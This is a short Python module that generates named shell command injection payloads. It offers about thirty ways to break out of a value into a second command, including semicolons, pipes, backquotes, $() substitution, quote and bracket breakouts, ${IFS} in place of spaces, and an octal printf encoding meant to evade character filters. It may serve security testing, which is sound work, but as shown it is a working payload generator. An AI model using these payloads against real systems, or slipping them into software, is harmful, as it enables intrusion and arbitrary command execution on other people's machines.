"""Ways in which a value breaks out of the shell command that it stands in."""

from __future__ import annotations


def quiet(command: str) -> str:
    """The command in octal codes for a POSIX shell: no slash, quote or any of `;&|<>` is in it.

    `quiet("ls")` → `eval $(printf \\\\154\\\\163)`
    """
    return "eval $(printf " + "".join(f"\\\\{byte:03o}" for byte in command.encode()) + ")"


def attacks(value: str, command: str, plain: str) -> dict[str, str]:
    """Named payloads that run `command`; `plain` is the same without a slash, for values that are file names."""
    return {
        "semicolon": f"{value};{command}",
        "semicolon and comment": f"{value};{command} #",
        "semicolon, no slash": f"{value};{plain}",
        "and": f"{value}&&{command}",
        "or": f"{value}||{command}",
        "or, after a failure": f"/nonexistent||{command}",
        "pipe": f"{value}|{command}",
        "background": f"{value}&{command}&",
        "newline": f"{value}\n{command}\n",
        "newline, no slash": f"{value}\n{plain}\n",
        "substitution": f"{value}$({command})",
        "substitution, no slash": f"{value}$({plain})",
        "substitution without spaces": f"{value}$({command.replace(' ', '${IFS}')})",
        "substitution, no redirection": f"{value}$({quiet(command)})",
        "newline, no redirection": f"{value}\n{quiet(command)}",
        "first word, no redirection": quiet(command),
        "backquotes": f"{value}`{command}`",
        "backquotes, no slash": f"{value}`{plain}`",
        "double quote": f'{value}";{command};"',
        "double quote and comment": f'{value}";{command} #',
        "double quote, no slash": f'{value}";{plain};"',
        "single quote": f"{value}';{command};'",
        "single quote and comment": f"{value}';{command} #",
        "single quote, no slash": f"{value}';{plain};'",
        "closed bracket": f"{value});{command};(true",
        "escaped quote": f'{value}\\";{command};\\"',
        "first word": f"{command};{value}",
        "redirected input": f"{value} </dev/null;{command}",
    }
